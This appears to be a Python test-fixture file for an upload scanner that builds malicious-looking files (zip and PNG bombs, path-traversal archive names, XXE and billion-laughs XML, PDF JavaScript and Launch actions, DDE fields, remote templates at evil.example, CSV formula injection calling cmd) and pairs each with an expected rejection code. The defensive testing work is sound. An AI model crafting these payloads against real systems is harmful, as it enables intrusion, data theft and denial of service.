"""Files that mean harm, or only look so: each built here, with what must become of it.

`CASES` maps a name for the test to (name of the file, how its bytes are made, outcome): a refusal's code, or
STORED for what is kept as it is because it can do nothing where it lies.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

STORED = "stored"
Build = Callable[[], bytes]
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ODT = "application/vnd.oasis.opendocument.text"
MEGABYTE = 1 << 20


def archive(*entries: tuple[str | zipfile.ZipInfo, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP with entries, in order."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as opened:
        for name, content in entries:
            opened.writestr(name, content)
    return made.getvalue()


def docx(*more: tuple[str, bytes | str], document: str = "", types: str = "") -> bytes:
    """A Word document with some parts more, or other ones."""
    body = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>'
    return archive(
        ("[Content_Types].xml", types or f'<Types xmlns="{TYPES}"/>'), ("word/document.xml", document or body), *more
    )


def relation(kind: str, target: str) -> tuple[str, str]:
    """A part that relates a Word document to something outside."""
    told = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return "word/_rels/document.xml.rels", f'<Relationships xmlns="{RELATIONS}">{told}</Relationships>'


def xlsx(*more: tuple[str, bytes | str]) -> bytes:
    """An Excel workbook."""
    return archive(("[Content_Types].xml", f'<Types xmlns="{TYPES}"/>'), ("xl/workbook.xml", "<workbook/>"), *more)


def odt(*more: tuple[str, bytes | str], content: str = "<office/>") -> bytes:
    """A text of LibreOffice; its kind stands first, and not packed."""
    kind = zipfile.ZipInfo("mimetype")
    kind.compress_type = zipfile.ZIP_STORED
    return archive((kind, ODT), ("content.xml", content), ("META-INF/manifest.xml", "<manifest/>"), *more)


def pdf(*objects: bytes, catalog: bytes = b"", pages: int = 1) -> bytes:
    """A PDF of empty pages with some objects more, numbered from 10."""
    kids = b" ".join(b"%d 0 R" % (100 + at) for at in range(pages))
    bodies = {1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog}
    bodies[2] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages)
    bodies |= {10 + at: body for at, body in enumerate(objects)}
    bodies |= {100 + at: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] >>" for at in range(pages)}
    made, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in bodies.items():
        places[number] = len(made)
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(made)
    made += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        made += b"%d 1\n%010d 00000 n \n" % (number, place)
    made += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (200 + pages, start)
    return bytes(made)


def stream(content: bytes, told: bytes = b"") -> bytes:
    """A stream object, packed."""
    packed = zlib.compress(content)
    return b"<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (told, len(packed), packed)


def png(width: int = 8, height: int = 8, after: bytes = b"") -> bytes:
    """A small picture."""
    made = io.BytesIO()
    Image.new("RGB", (width, height), "green").save(made, "PNG")
    return made.getvalue() + after


def jpeg(after: bytes = b"") -> bytes:
    """A small photograph."""
    made = io.BytesIO()
    Image.new("RGB", (8, 8), "green").save(made, "JPEG")
    return made.getvalue() + after


def claimed_png(width: int, height: int) -> bytes:
    """A PNG that says it is so large, with a few bytes of content: a bomb."""

    def part(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = part(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    body = part(b"IDAT", zlib.compress(bytes(min(width * height, 4 * MEGABYTE))))
    return b"\x89PNG\r\n\x1a\n" + head + body + part(b"IEND", b"")


def nested(depth: int) -> bytes:
    """An archive in an archive in an archive …"""
    made = archive(("a.txt", "the end"))
    for _ in range(depth):
        made = archive(("more.zip", made))
    return made


def linked() -> bytes:
    """An archive with a symbolic link to the system's passwords."""
    link = zipfile.ZipInfo("notes.txt")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    return archive((link, "/etc/passwd"))


def named(name: str) -> Build:
    """An archive whose entry has this name."""

    def build() -> bytes:
        entry = zipfile.ZipInfo("placeholder")
        entry.filename = name
        return archive((entry, "content"))

    return build


def locked() -> bytes:
    """An archive that says its entry is encrypted."""
    made = bytearray(archive(("secret.txt", "x" * 40), method=zipfile.ZIP_STORED))
    made[6] |= 1
    made[made.find(b"PK\x01\x02") + 8] |= 1
    return bytes(made)


def liar() -> bytes:
    """An archive whose directory says that its entry is small; it unpacks to far more."""
    made = bytearray(archive(("a.txt", bytes(6 * MEGABYTE))))
    at = made.find(b"PK\x01\x02") + 24
    made[at : at + 4] = (10).to_bytes(4, "little")
    return bytes(made)


def many_parts() -> bytes:
    """An archive of 6,000 empty files."""
    return archive(*((f"{at}.txt", b"") for at in range(6000)), method=zipfile.ZIP_STORED)


def wide_bomb() -> bytes:
    """An archive of many files that share one way of being large."""
    return archive(*((f"{at}.bin", bytes(20 * MEGABYTE)) for at in range(15)))


def laughs() -> str:
    """A billion laughs: entities of entities."""
    told = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
    return f'<!DOCTYPE d [<!ENTITY l0 "lol">{told}]><d>&l9;</d>'


XXE = f'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="{WORD}">&x;</w:document>'
DDE = (
    f'<w:document xmlns:w="{WORD}"><w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText></w:p>'
    "</w:document>"
)
MACRO_TYPES = (
    f'<Types xmlns="{TYPES}"><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
SCRIPT = '<office xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><script:event-listener/></office>'
IMAGE_ELSEWHERE = (
    '<office xmlns:draw="d" xmlns:xlink="http://www.w3.org/1999/xlink"><draw:image xlink:href="https://spy.example/"/>'
    "</office>"
)
ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
PE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\x00\x00" + bytes(60)

CASES: dict[str, tuple[str, Build, str]] = {
    # Nothing, or not what the name says.
    "nothing": ("empty.pdf", lambda: b"", "empty_file"),
    "program as pdf": ("invoice.pdf", lambda: PE, "wrong_file_type"),
    "program as text": ("readme.txt", lambda: PE, "wrong_file_type"),
    "linux program as png": ("logo.png", lambda: b"\x7fELF\x02\x01\x01" + bytes(60), "wrong_file_type"),
    "html as pdf": ("plan.pdf", lambda: HTML, "wrong_file_type"),
    "html": ("page.html", lambda: HTML, "wrong_file_type"),
    "html as text": ("page.txt", lambda: HTML, STORED),
    "html as csv": ("page.csv", lambda: HTML, STORED),
    "svg with script": ("mark.svg", lambda: SVG, "wrong_file_type"),
    "svg as png": ("mark.png", lambda: SVG, "wrong_file_type"),
    "svg as text": ("mark.txt", lambda: SVG, STORED),
    "shell script as text": ("run.txt", lambda: b"#!/bin/sh\nrm -rf /\n", STORED),
    "double ending": ("plan.pdf.exe", lambda: PE, "wrong_file_type"),
    "gif": ("move.gif", lambda: b"GIF89a" + bytes(30), "wrong_file_type"),
    "gzip bomb": ("data.csv", lambda: gzip.compress(bytes(20 * MEGABYTE)), "wrong_file_type"),
    "text with nul": ("notes.txt", lambda: b"a\x00b", "wrong_file_type"),
    "text of half a letter": ("notes.txt", lambda: b"caf\xc3", "wrong_file_type"),
    "old word as docx": ("old.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "wrong_file_type"),
    # Pictures.
    "png bomb": ("big.png", lambda: claimed_png(60_000, 60_000), "picture_too_large"),
    "long png": ("long.png", lambda: claimed_png(2_000_000, 1), "picture_too_large"),
    "png that is not all there": ("map.png", lambda: claimed_png(7_000, 7_000), "file_damaged"),
    "cut png": ("map.png", lambda: png(300, 300)[:-60], "file_damaged"),
    "only the head of a png": ("map.png", lambda: b"\x89PNG\r\n\x1a\n", "file_damaged"),
    "png and zip": ("map.png", lambda: png(after=archive(("a.txt", "x"))), "file_mixed"),
    "png and html": ("map.png", lambda: png(after=HTML), "file_mixed"),
    "png with pdf in its head": ("map.png", lambda: png()[:40] + b"%PDF-1.7" + png()[40:], "file_mixed"),
    "cut jpeg": ("photo.jpg", lambda: jpeg()[:200], "file_damaged"),
    "jpeg and zip": ("photo.jpg", lambda: jpeg(after=archive(("a.class", "x"))), "file_mixed"),
    "jpeg with something a camera adds": ("photo.jpg", lambda: jpeg(after=b"ftypmp42" + bytes(99)), STORED),
    # PDF.
    "pdf": ("plan.pdf", pdf, STORED),
    "pdf with script": ("plan.pdf", lambda: pdf(catalog=b"/OpenAction " + ACTION), "pdf_active"),
    "pdf with a script's name spelled": (
        "plan.pdf",
        lambda: pdf(catalog=b"/OpenAction " + ACTION.replace(b"/JavaScript", b"/#4aava#53cript")),
        "pdf_active",
    ),
    "pdf with script in packed objects": (
        "plan.pdf",
        lambda: pdf(stream(b"11 0 " + ACTION, b"/Type /ObjStm /N 1 /First 5")),
        "pdf_active",
    ),
    "pdf with objects packed twice": (
        "plan.pdf",
        lambda: pdf(b"<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n00\nendstream"),
        "pdf_unreadable",
    ),
    "pdf with a bomb of objects": (
        "plan.pdf",
        lambda: pdf(stream(bytes(70 * MEGABYTE), b"/Type /ObjStm /N 1 /First 5")),
        "unpacks_too_large",
    ),
    "pdf that starts a program": (
        "plan.pdf",
        lambda: pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "pdf_active",
    ),
    "pdf that carries a file": (
        "plan.pdf",
        lambda: pdf(b"<< /Type /Filespec /EF << /F 11 0 R >> >>", stream(PE, b"/Type /EmbeddedFile")),
        "pdf_active",
    ),
    "pdf with a form that computes": ("plan.pdf", lambda: pdf(catalog=b"/AcroForm << /XFA [1 0 R] >>"), "pdf_active"),
    "pdf and zip": ("plan.pdf", lambda: pdf() + archive(("a.txt", "x")), "file_mixed"),
    "cut pdf": ("plan.pdf", lambda: pdf()[:60], "file_damaged"),
    "only the head of a pdf": ("plan.pdf", lambda: b"%PDF-1.7\n", "file_damaged"),
    "pdf of too many pages": ("plan.pdf", lambda: pdf(pages=2_001), "too_many_pages"),
    # Archives.
    "zip": ("all.zip", lambda: archive(("déjà/vu.txt", "x")), STORED),
    "zip bomb": ("all.zip", lambda: archive(("zeros.bin", bytes(60 * MEGABYTE))), "packed_too_tight"),
    "wide zip bomb": ("all.zip", wide_bomb, "packed_too_tight"),
    "deep zip": ("all.zip", lambda: nested(6), "archive_too_deep"),
    "zip of too many files": ("all.zip", many_parts, "too_many_entries"),
    "zip that lies": ("all.zip", liar, "file_damaged"),
    "locked zip": ("all.zip", locked, "file_locked"),
    "zip with a link": ("all.zip", linked, "entry_link"),
    "zip that climbs": ("all.zip", named("../../etc/cron.d/x"), "entry_name"),
    "zip with a whole path": ("all.zip", named("/etc/passwd"), "entry_name"),
    "zip with a drive": ("all.zip", named("C:/autoexec.bat"), "entry_name"),
    "zip with backslashes": ("all.zip", named("..\\..\\x"), "entry_name"),
    "zip with a device": ("all.zip", named("aux.txt"), "entry_name"),
    "zip with a name turned round": ("all.zip", named("plan\u202efdp.exe.txt"), "entry_name"),
    "zip with a long name": ("all.zip", named("x" * 300), "entry_name"),
    "zip with a program": ("all.zip", lambda: archive(("setup", PE)), "program_inside"),
    "zip with a shortcut": ("all.zip", lambda: archive(("plan.pdf.lnk", b"x")), "program_inside"),
    "zip with a gzip bomb": ("all.zip", lambda: archive(("a.gz", gzip.compress(bytes(MEGABYTE)))), "packed_inside"),
    "cut zip": ("all.zip", lambda: archive(("a.txt", "x" * 99))[:-40], "wrong_file_type"),
    # Documents.
    "docx": ("plan.docx", docx, STORED),
    "docx with xxe": ("plan.docx", lambda: docx(document=XXE), "document_type"),
    "docx with xxe in utf-16": (
        "plan.docx",
        lambda: docx(("word/footer.xml", XXE.encode("utf-16"))),
        "document_type",
    ),
    "docx that laughs": ("plan.docx", lambda: docx(("word/styles.xml", laughs())), "document_type"),
    "docx with macros": ("plan.docx", lambda: docx(("word/VBAPROJECT.bin", b"x")), "document_macros"),
    "docx that says it has macros": ("plan.docx", lambda: docx(types=MACRO_TYPES), "document_macros"),
    "docx with a template elsewhere": (
        "plan.docx",
        lambda: docx(relation("attachedTemplate", "https://evil.example/t.dotm")),
        "document_calls_out",
    ),
    "docx with a picture elsewhere": (
        "plan.docx",
        lambda: docx(relation("image", "\\\\10.0.0.1\\share\\x.png")),
        "document_calls_out",
    ),
    "docx with a template of one's own": (
        "plan.docx",
        lambda: docx(relation("attachedTemplate", "file:///C:\\Users\\me\\t.dotx")),
        STORED,
    ),
    "docx with a link": ("plan.docx", lambda: docx(relation("hyperlink", "https://example.org/")), STORED),
    "docx that speaks to programs": ("plan.docx", lambda: docx(document=DDE), "document_calls_out"),
    "docx with an object": (
        "plan.docx",
        lambda: docx(("word/embeddings/o.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")),
        "document_embeds",
    ),
    "docx that is no xml": ("plan.docx", lambda: docx(document="<w:document"), "file_damaged"),
    "docx in a zip, with macros": (
        "all.zip",
        lambda: archive(("a.docx", docx(("word/vbaProject.bin", b"x")))),
        "document_macros",
    ),
    "xlsx that speaks to programs": (
        "budget.xlsx",
        lambda: xlsx(("xl/externalLinks/e.xml", "<externalLink><ddeLink/></externalLink>")),
        "document_calls_out",
    ),
    "xlsx with old macros": ("budget.xlsx", lambda: xlsx(("xl/macrosheets/s.xml", "<x/>")), "document_macros"),
    "odt": ("lettre.odt", odt, STORED),
    "odt with macros": ("lettre.odt", lambda: odt(("Basic/Standard/x.xml", "<x/>")), "document_macros"),
    "odt with script": ("lettre.odt", lambda: odt(content=SCRIPT), "document_macros"),
    "odt with a picture elsewhere": ("lettre.odt", lambda: odt(content=IMAGE_ELSEWHERE), "document_calls_out"),
    # Tables.
    "csv that fetches": ("a.csv", lambda: b'name,x\n"=WEBSERVICE(""http://e.example"")",1\n', "formula_in_table"),
    "csv that speaks to programs": ("a.csv", lambda: b"a;=cmd|' /C calc'!A0\n", "formula_in_table"),
    "csv with sums and minus": ("a.csv", lambda: b"a,=SUM(A1:A3),-5 (est.),- item(s),+33 1\n", STORED),
}
